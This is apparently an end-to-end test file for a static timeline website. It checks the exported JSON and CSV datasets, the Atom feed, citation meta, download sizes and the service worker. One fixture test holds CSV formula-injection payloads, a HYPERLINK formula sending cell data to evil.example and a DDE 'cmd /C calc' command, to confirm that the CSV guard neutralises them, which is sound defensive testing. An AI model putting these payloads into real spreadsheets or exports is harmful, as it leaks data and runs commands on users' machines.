// What a reader takes away from the built site of the real corpus, read as its readers read
// it: the datasets (data/events.json by JSON.parse, data/events.csv by an RFC 4180 reader),
// the Atom feed (by the browser's XML parser), the feed's link in every page's head, the
// citation meta of an event page, and the about page's links to the datasets with their
// sizes. A fixture corpus of hostile cells checks the CSV's formula guard.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { openPage, startServer, copySite, cli, CORPUS, waitForApp, parseCsv, servedSite } from './support/lib.mjs';

const SUBPATH_SITE = process.env.TIMELINE_SUBPATH_SITE || 'target/e2e/site-subpath';
let browser, url;
servedSite((s) => ({ browser, url } = s));

/** The bytes of a file of the served site. */
async function bytes(base, path) {
  const response = await fetch(`${base}/${path}`);
  assert.equal(response.status, 200, path);
  return new Uint8Array(await response.arrayBuffer());
}

/** The about page's rule for sizes (timeline_bundle::export::human_size), in JavaScript. */
function humanSize(n) {
  if (n < 1000) return `${n} B`;
  let unit = 1000, name = 'kB';
  for (const next of ['MB', 'GB', 'TB']) {
    if (n < unit * 1000 - unit / 2) break;
    unit *= 1000; name = next;
  }
  const tenths = Math.floor((n * 10 + unit / 2) / unit);
  return tenths < 100 ? `${Math.floor(tenths / 10)}.${tenths % 10} ${name}` : `${Math.floor((n + unit / 2) / unit)} ${name}`;
}

const COLUMNS = ['id', 'date', 'title', 'summary', 'importance', 'status', 'tags', 'actors', 'lanes', 'location', 'sources', 'permalink'];

test('the datasets hold every event the CLI counts, the same events in the same order', async () => {
  const events = cli('stats', CORPUS, '--format', 'json').events;
  assert.ok(events > 1000, `the real corpus (${events} events)`);
  const json = JSON.parse(new TextDecoder().decode(await bytes(url, 'data/events.json')));
  const rows = parseCsv(await bytes(url, 'data/events.csv'));
  assert.equal(json.length, events);
  assert.deepEqual(rows[0], COLUMNS);
  assert.equal(rows.length - 1, events);
  const hostile = /^[=+\-@\t\r]/;
  for (const [i, e] of json.entries()) {
    const row = rows[i + 1];
    assert.equal(row.length, COLUMNS.length, `row ${i + 1}`);
    assert.equal(row[0], e.id);
    assert.equal(row[1], e.date);
    assert.equal(row[2], hostile.test(e.title) ? `'${e.title}` : e.title);
    const tags = e.tags.join('; ');
    assert.equal(row[6], hostile.test(tags) ? `'${tags}` : tags);
    assert.equal(row[3], hostile.test(e.summary) ? `'${e.summary}` : e.summary);
    // No site setting gives the real corpus a canonical URL: permalinks are the site's own paths.
    assert.equal(e.permalink, `event/${encodeURIComponent(e.id)}`);
    assert.equal(row[11], e.permalink);
    for (const cell of row) assert.ok(!hostile.test(cell), `no cell of row ${i + 1} starts a formula: ${JSON.stringify(cell)}`);
    for (const field of ['summary_html', 'body_html', 'sources', 'connections', 'referenced_by', 'extra', 'file', 'outlets']) {
      assert.ok(field in e, `${e.id} has ${field}`);
    }
  }
  // The bundle's order: by date (a year before its months, a month before its days), then id
  // (as Rust compares strings: by UTF-8 bytes).
  for (let i = 1; i < json.length; i++) {
    const [a, b] = [json[i - 1], json[i]];
    const ordered = a.date < b.date || (a.date === b.date && Buffer.compare(Buffer.from(a.id), Buffer.from(b.id)) < 0);
    assert.ok(ordered, `${a.date} ${a.id} before ${b.date} ${b.id}`);
  }
  assert.ok(json.some((e) => e.sources.some((s) => s.url && s.title && 'link' in s && 'archive_url' in s)), 'sources with their fields');
});

test('a cell that would start a formula is neutralised in the CSV and kept as written in the JSON', async () => {
  const site = await copySite('formula', 'tests/e2e/support/fixtures/formula');
  try {
    const json = JSON.parse(new TextDecoder().decode(await bytes(site.url, 'data/events.json')));
    const rows = parseCsv(await bytes(site.url, 'data/events.csv'));
    assert.equal(json.length, 3);
    assert.equal(rows.length, 4);
    // A year sorts before its months, a month before its days.
    assert.deepEqual(json.map((e) => e.id), ['2020--a-whole-year', '2021-06-02--an-ordinary-event', '2021-06-01--formula-cells']);
    const e = json[2];
    const row = rows[3];
    assert.equal(e.title, '=HYPERLINK("https://evil.example/steal?d="&A1,"Click for details")');
    assert.equal(row[2], `'${e.title}`);
    assert.match(e.summary, /^\+1 pays, -1 owes; .quoted., and @everyone$/);
    assert.equal(row[3], `'${e.summary}`);
    assert.equal(row[5], "'@reported");
    assert.equal(row[6], "'-tag; plain");
    assert.equal(row[7], "'+Actor");
    assert.equal(row[10], "'=cmd|' /C calc'!A0 | https://example.org/source?a=1&b=2");
    assert.equal(rows[2][2], 'An ordinary event, with a comma');
    assert.equal(rows[2][1], '2021-06');
    for (const r of rows) for (const cell of r) assert.doesNotMatch(cell, /^[=+\-@\t\r]/);
  } finally {
    site.close();
  }
});

/** feed.xml as the page's browser parses it: its entries, or the parser's error. */
async function readFeed(page) {
  return page.evaluate(async () => {
    const text = await (await fetch('feed.xml')).text();
    const doc = new DOMParser().parseFromString(text, 'application/xml');
    const error = doc.querySelector('parsererror');
    if (error) return { error: error.textContent };
    const root = doc.documentElement;
    const child = (el, name) => [...el.children].find((c) => c.localName === name)?.textContent ?? null;
    return {
      name: root.localName,
      ns: root.namespaceURI,
      title: child(root, 'title'),
      id: child(root, 'id'),
      updated: child(root, 'updated'),
      self: root.querySelector(':scope > link[rel=self]')?.getAttribute('href'),
      entries: [...root.children].filter((c) => c.localName === 'entry').map((e) => ({
        title: child(e, 'title'),
        id: child(e, 'id'),
        updated: child(e, 'updated'),
        summary: child(e, 'summary'),
        href: e.querySelector(':scope > link[rel=alternate]')?.getAttribute('href'),
      })),
    };
  });
}

test('the feed is well-formed Atom: the 50 newest events, newest first, each a real event', async () => {
  const json = JSON.parse(new TextDecoder().decode(await bytes(url, 'data/events.json')));
  const byId = new Map(json.map((e) => [e.id, e]));
  const page = await openPage(browser);
  await page.goto(url + '/');
  await waitForApp(page);
  const feed = await readFeed(page);
  assert.equal(feed.error, undefined, feed.error);
  assert.equal(feed.name, 'feed');
  assert.equal(feed.ns, 'http://www.w3.org/2005/Atom');
  assert.equal(feed.self, 'feed.xml');
  assert.match(feed.id, /^urn:uuid:[0-9a-f]{8}-[0-9a-f]{4}-8[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
  assert.equal(feed.entries.length, 50);
  const newest = json.slice(-50).reverse();
  const firstDay = (date) => `${date.slice(0, 4)}-${date.slice(5, 7) || '01'}-${date.slice(8, 10) || '01'}T00:00:00Z`;
  for (const [i, entry] of feed.entries.entries()) {
    assert.ok(entry.href.startsWith('event/'), entry.href);
    const e = byId.get(decodeURIComponent(entry.href.slice('event/'.length)));
    assert.ok(e, `entry ${i} names a real event: ${entry.href}`);
    assert.equal(e.id, newest[i].id, `entry ${i} is the ${i + 1}th newest`);
    assert.equal(entry.title, e.title);
    assert.equal(entry.updated, firstDay(e.date));
    assert.equal(entry.summary ?? '', e.summary);
    assert.match(entry.id, /^urn:uuid:/);
  }
  assert.equal(new Set(feed.entries.map((e) => e.id)).size, 50, 'distinct ids');
  assert.equal(feed.updated, feed.entries[0].updated, "the feed's updated is its newest entry's");
  page.noProblems();
});

test('every page the build writes links the feed in its head', async () => {
  const json = JSON.parse(new TextDecoder().decode(await bytes(url, 'data/events.json')));
  const id = json[Math.floor(json.length / 2)].id;
  const page = await openPage(browser);
  for (const path of ['/', `/event/${encodeURIComponent(id)}/`, '/404.html']) {
    const response = await fetch(url + path);
    assert.equal(response.status, 200, path);
    const html = await response.text();
    const link = html.match(/<link rel="alternate" type="application\/atom\+xml" href="([^"]*)" title="([^"]*)">/);
    assert.ok(link, `${path} links the feed`);
    assert.equal(link[1], '/feed.xml');
    assert.equal(link[2], 'Timeline');
  }
  // As the browser sees it, on the app's own pages.
  await page.goto(url + '/');
  await waitForApp(page);
  const href = await page.evaluate(() => document.querySelector('head link[rel=alternate][type="application/atom+xml"]')?.href);
  assert.equal(href, `${url}/feed.xml`);
  page.noProblems();
});

test('an event page carries its citation meta for reference managers, static and in the app', async () => {
  const json = JSON.parse(new TextDecoder().decode(await bytes(url, 'data/events.json')));
  const e = json.find((e) => e.date.length === 10 && /["&<']/.test(e.title)) || json.find((e) => e.date.length === 10);
  // The static page names the page's own path (no canonical URL is set); the app, which
  // writes the head of every event it shows, the permalink under the address it runs at.
  for (const [javaScriptEnabled, link] of [[false, `/${e.permalink}`], [true, `${url}/${e.permalink}`]]) {
    const page = await openPage(browser, { javaScriptEnabled });
    await page.goto(`${url}/event/${encodeURIComponent(e.id)}`);
    if (javaScriptEnabled) await waitForApp(page);
    const meta = await page.evaluate(() => Object.fromEntries([...document.head.querySelectorAll('meta[name^="citation_"], meta[name^="DC."]')]
      .map((m) => [m.name, m.content])));
    assert.equal(meta.citation_title, e.title);
    assert.equal(meta.citation_publication_date, e.date.replaceAll('-', '/'));
    assert.equal(meta.citation_public_url, link);
    assert.equal(meta.citation_publisher, 'Timeline');
    assert.equal(meta['DC.title'], e.title);
    assert.equal(meta['DC.date'], e.date);
    assert.equal(meta['DC.identifier'], link);
    assert.equal(meta['DC.publisher'], 'Timeline');
    assert.equal(meta['DC.type'], 'Text');
    assert.equal(meta['DC.rights'], undefined, 'the real corpus gives no license');
    assert.equal(await page.evaluate(() => document.head.querySelector('link[rel="schema.DC"]')?.getAttribute('href')), 'http://purl.org/dc/elements/1.1/');
    page.noProblems();
  }
});

test('the about page links each dataset with its size, the bundle\'s version and the license', async () => {
  for (const [site, base] of [[url, ''], [null, '/timeline']]) {
    let sub;
    if (site === null) sub = await startServer(SUBPATH_SITE, { base: '/timeline' });
    const root = site ?? sub.url;
    try {
      const page = await openPage(browser);
      await page.goto(`${root}/about`);
      await page.waitForSelector('.about-page .downloads li');
      const links = await page.evaluate(() => [...document.querySelectorAll('.about-page .downloads li')].map((li) => ({
        href: li.querySelector('a').getAttribute('href'),
        download: li.querySelector('a').hasAttribute('download'),
        name: li.querySelector('a').textContent,
        size: li.querySelector('.size').textContent,
      })));
      assert.deepEqual(links.map((l) => l.href), [`${base}/data/events.json`, `${base}/data/events.csv`]);
      for (const link of links) {
        assert.ok(link.download, `${link.name} is a download`);
        const file = await bytes(root, link.href.slice(base.length + 1));
        assert.equal(link.size, humanSize(file.length), `${link.name}: ${file.length} bytes`);
        assert.ok(file.length > 100_000, 'the whole corpus');
      }
      const metaSizes = await page.evaluate(() => document.querySelector('meta[name="timeline-datasets"]').content);
      for (const link of links) {
        const file = await bytes(root, link.href.slice(base.length + 1));
        assert.ok(metaSizes.includes(`${link.href.slice(base.length + 1)} ${file.length}`), metaSizes);
      }
      const text = await page.locator('.about-page .downloads').textContent();
      const core = await page.evaluate(() => document.querySelector('meta[name="timeline-bundle"]').content);
      const hash = core.match(/core\.([0-9a-f]{16})\.bin$/)[1];
      assert.match(text, new RegExp(`Bundle format \\d+, build ${hash}\\.`));
      assert.match(text, /No license is given for the data\./);
      page.noProblems();
    } finally {
      sub?.server.close();
    }
  }
});

test('the service worker leaves the datasets and the feed to the network', async () => {
  const sw = new TextDecoder().decode(await bytes(url, 'sw.js'));
  const [files, other] = sw.split('const FILES = [')[1].split('const OTHER_FILES = [');
  assert.doesNotMatch(files, /"data\/|"feed\.xml"/);
  for (const f of ['data/events.json', 'data/events.csv', 'feed.xml']) assert.match(other, new RegExp(`"${f.replace('.', '\\.')}"`));
});

test('below a base path, the view\'s export (written by the export worker) is the build\'s dataset', async () => {
  const sub = await startServer(SUBPATH_SITE, { base: '/timeline' });
  try {
    const page = await openPage(browser, { acceptDownloads: true });
    await page.goto(`${sub.url}/`);
    await waitForApp(page);
    await page.locator('.export-menu > summary').click();
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.locator('.export-options [data-format="csv"]').click(),
    ]);
    const exported = parseCsv(readFileSync(await download.path()));
    const built = parseCsv(Buffer.from(await bytes(sub.url, 'data/events.csv')));
    assert.deepEqual(exported[0], built[0], 'the same columns');
    const ids = (rows) => rows.slice(1).map((r) => r[0]).sort();
    assert.equal(exported.length, built.length, 'every event of the unfiltered view');
    assert.deepEqual(ids(exported), ids(built));
    for (const row of exported.slice(1)) assert.ok(row[11].startsWith(`${sub.url}/event/`), row[11]);
    page.noProblems();
  } finally {
    sub.server.close();
  }
});
